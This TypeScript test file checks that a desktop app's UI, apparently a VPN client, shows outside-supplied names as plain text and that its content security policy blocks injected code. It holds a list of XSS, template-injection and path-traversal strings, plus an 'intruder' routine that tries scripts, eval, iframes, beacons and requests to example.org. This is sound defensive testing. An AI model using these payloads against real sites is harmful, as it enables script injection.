// What others wrote is shown as text, and the page's policy holds whatever gets into it.
import { readFileSync } from "node:fs";

import { describe, expect, test } from "vitest";

import type { PageData, ToPage } from "../../../ui/src/bindings";
import { pageData, snapshot, snapshotNames } from "../support/fixtures";
import { configuredPolicy, pagesInBrowser, Shown } from "../support/page";
import { FULL_SCENES, type Scene, unfold } from "../support/scenes";

const pages = pagesInBrowser();

const HARMLESS = "Harmless place";
const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "</p></svg><iframe src=javascript:alert(1)>",
  "\"'><svg onload=alert(1)>",
  "<style>*{display:none}</style>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "{ $likely }",
  "javascript:alert(1)",
  "../../../etc/passwd",
  "a\u202eb\u2066c\u200bd\u0000e\u001b[31mf",
  "\u200b\u200d.\ufeff",
  "&lt;b&gt;",
  "x".repeat(10_000),
  "\u0301".repeat(200),
  "__proto__",
];

/** Under these keys stands what somebody else wrote: a relay list, a settings file, a daemon, a file system. */
const FROM_OUTSIDE = [
  "city", "country", "provider", "relay", "relays", "replaces_custom_list", "kept_aside", "reason", "program", "daemon",
  "daemon_version", "home_country", "time_zone", "screen",
];

/** A code of a city or a value of a closed list is no name. */
const CLOSED = /^(?:[a-z]{2}-[a-z]{3}|[a-z_]+)$/u;

/** The message with another name wherever one from outside stands; those of relays stay apart from each other. */
function named(name: string): (message: ToPage) => ToPage {
  const renamed = (key: string, value: unknown): unknown => {
    if (typeof value !== "string" || !FROM_OUTSIDE.includes(key) || CLOSED.test(value)) return value;
    return key.startsWith("relay") ? `${name}${value}` : name;
  };
  const within = (key: string, value: unknown): unknown => {
    if (Array.isArray(value)) return value.map((one) => within(key, one));
    if (typeof value !== "object" || value === null) return renamed(key, value);
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, within(key, one)]));
  };
  return (message) => within("", message) as ToPage;
}

/** Where names and paths stand that no other scene shows. */
const settings: Scene = {
  name: "settings, with troubles",
  show: async (shown) => {
    const some = snapshot("some");
    await shown.show({
      ...some,
      autostart: { state: "not_possible", obstacle: { kind: "refused", reason: "/home/Somebody/.config" }, is_there: true },
      settings: { ...some.settings, history: "kept", home_country: "SE" },
      history: { state: { kind: "not_kept", trouble: { kind: "not_erased", reason: "/home/Somebody/History" } }, kept_aside: "/home/Somebody/History.1", forgotten: 0 },
    });
    await shown.turnTo("settings");
  },
};

function face(name: string): Scene {
  return { name, show: (shown) => shown.show(snapshot(name)) };
}

const SCENES: readonly Scene[] = [...FULL_SCENES.filter(({ name }) => name !== "settings, some"), settings, ...["hostile-names", "custom-list", "few", "paused-multihop"].map(face)];

/** All that stands on the page, in its fields too. */
async function allShown(shown: Shown): Promise<string> {
  const fields = await shown.page.locator("main input").evaluateAll((all) => all.map((one) => (one as HTMLInputElement).value));
  return [await shown.text(), ...fields].join("\n").toLowerCase();
}

describe("hostile names", () => {
  test.each(SCENES)("change no element and run nothing: $name", { timeout: 240_000 }, async (scene) => {
    const shown = await pages.start({ reducedMotion: "reduce" });
    const strange: string[] = [];
    shown.page.on("dialog", (dialog) => {
      strange.push(dialog.message());
      void dialog.dismiss();
    });
    shown.page.on("pageerror", (error) => strange.push(error.message));
    shown.page.on("console", (line) => strange.push(line.text()));
    shown.page.on("request", (request) => {
      if (!request.url().startsWith(pages.address)) strange.push(request.url());
    });
    // What the scene told last of each kind is told again under every name.
    const told = new Map<string, ToPage>();
    shown.through = (message) => {
      told.set(message.kind, message);
      return named(HARMLESS)(message);
    };
    await scene.show(shown);
    await unfold(shown);
    const count = async (): Promise<number> => shown.page.locator("main *").count();
    const elements = await count();
    expect(await allShown(shown)).toContain(HARMLESS.toLowerCase());
    for (const [round, name] of HOSTILE.entries()) {
      shown.through = named(name);
      for (const message of told.values()) {
        await shown.tell(message.kind === "snapshot" ? { ...message, snapshot: { ...message.snapshot, revision: 100 + round } } : message);
      }
      await unfold(shown);
      expect(await count(), name).toBe(elements);
      expect(await shown.text(), name).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u0000\u001b]|x{200}/u);
      expect(await shown.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), name).toBe(0);
    }
    expect(strange).toEqual([]);
    expect(await shown.violations()).toEqual([]);
    await shown.close();
  });
});

/** What an intruder did, and what came of it. */
interface Tried {
  readonly executed: readonly string[];
  readonly reached: readonly string[];
}

/** Runs in the page, in a task of its own: what a debugger runs is above the policy. */
function intrude(stays: boolean): void {
  const world = globalThis as unknown as { executed: string[]; tried?: Tried };
  world.executed = [];
  const element = (name: string, attributes: Readonly<Record<string, string>>, text = ""): void => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    made.append(text);
    document.body.append(made);
  };
  const attempts: (() => unknown)[] = [
    () => { element("script", {}, "executed.push('inline script')"); },
    () => { element("script", { src: "https://example.org/script.js" }); },
    () => { element("img", { src: "https://example.org/pixel.png" }); },
    () => { element("img", { src: "data:,", onerror: "executed.push('onerror')" }); },
    () => { element("style", {}, "body { display: none }"); },
    () => { element("iframe", { src: "javascript:parent.executed.push('iframe')" }); },
    () => { element("iframe", { src: "https://example.org/" }); },
    () => { element("object", { data: "https://example.org/" }); },
    () => { element("base", { href: "https://example.org/" }); },
    // eslint-disable-next-line no-eval -- it is the intruder who does
    () => (0, eval)("executed.push('eval')"),
    // eslint-disable-next-line no-implied-eval -- it is the intruder who does
    () => setTimeout("executed.push('timeout')", 0),
    // eslint-disable-next-line no-restricted-properties -- it is the intruder who does
    () => (document.body.innerHTML = "<img src=x onerror='executed.push(`markup`)'>"),
    () => new WebSocket("wss://example.org/"),
    () => new EventSource("https://example.org/"),
    () => navigator.sendBeacon("https://example.org/"),
    () => {
      if (stays) return;
      element("form", { action: "https://example.org/", id: "form" });
      document.querySelector<HTMLFormElement>("#form")?.submit();
    },
  ];
  const { port1, port2 } = new MessageChannel();
  port2.onmessage = () => {
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // Refused, as it should be.
      }
    }
    const tell = (...reached: string[]): void => {
      world.tried = { executed: world.executed, reached };
    };
    fetch("https://example.org/").then(() => { tell("fetch"); }, () => { tell(); });
  };
  port1.postMessage(null);
}

/** The rules of the policy that must have stopped something of the above. */
const STOPPED_BY = [
  "base-uri", "connect-src", "form-action", "frame-src", "img-src", "require-trusted-types-for", "script-src-elem", "style-src-elem",
];

describe("the policy", () => {
  test("is the one that the window is built with, to the letter", async () => {
    const shown = await pages.start();
    const answer = await shown.page.request.get(pages.address);
    const config = JSON.parse(readFileSync(new URL("../../../src-tauri/tauri.conf.json", import.meta.url), "utf8")) as {
      app: { security: { csp: unknown } };
    };
    expect(answer.headers()["content-security-policy"]).toBe(config.app.security.csp);
    expect(configuredPolicy()).toContain("default-src 'none'");
    await shown.close();
  });

  test("is broken by no face and no page", { timeout: 240_000 }, async () => {
    const shown = await pages.start();
    const errors: string[] = [];
    shown.page.on("console", (line) => {
      if (line.type() === "error") errors.push(line.text());
    });
    shown.page.on("pageerror", (error) => errors.push(error.message));
    let revision = 1;
    for (const name of snapshotNames()) await shown.show({ ...snapshot(name), revision: revision++ });
    for (const name of ["trail", "places", "history", "signals"] as const) {
      await shown.turnTo(name);
      const data: PageData = pageData(name);
      await shown.tell({ kind: "page", data });
      await unfold(shown);
    }
    expect(await shown.violations()).toEqual([]);
    expect(errors).toEqual([]);
    await shown.close();
  });

  test("stops all that an intruder would try, and each attempt is counted", async () => {
    const shown = await pages.start();
    await shown.show(snapshot("few"));
    const reached: string[] = [];
    await shown.page.route("https://example.org/**", (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await shown.page.evaluate(intrude, false);
    await shown.page.waitForFunction(() => (globalThis as unknown as { tried?: Tried }).tried !== undefined);
    const tried = await shown.page.evaluate(() => (globalThis as unknown as { tried: Tried }).tried);
    expect(tried).toEqual({ executed: [], reached: [] });
    expect(reached).toEqual([]);
    const violations = await shown.violations();
    expect(new Set(violations.map((violation) => violation.split(" ")[0]))).toEqual(new Set(STOPPED_BY));
    expect(violations.length).toBeGreaterThanOrEqual(12);
    await shown.close();
  });

  test("is what stops it: without the policy the intruder gets through", async () => {
    const shown = await pages.start({ bypassCSP: true });
    await shown.show(snapshot("few"));
    await shown.page.route("https://example.org/**", (route) => route.abort());
    await shown.page.evaluate(intrude, true);
    await shown.page.waitForFunction(() => (globalThis as unknown as { executed?: string[] }).executed?.includes("markup"));
    const executed = await shown.page.evaluate(() => (globalThis as unknown as { executed: string[] }).executed);
    expect(executed).toContain("inline script");
    expect(executed).toContain("eval");
    await shown.close();
  });
});
